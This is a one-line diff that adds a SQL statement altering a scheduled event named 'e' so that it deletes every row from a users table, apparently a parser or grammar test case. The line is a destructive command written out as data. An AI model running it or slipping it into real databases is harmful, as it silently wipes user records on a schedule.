@@ -1,0 +1,1 @@
+ALTER EVENT e DO DELETE FROM users;
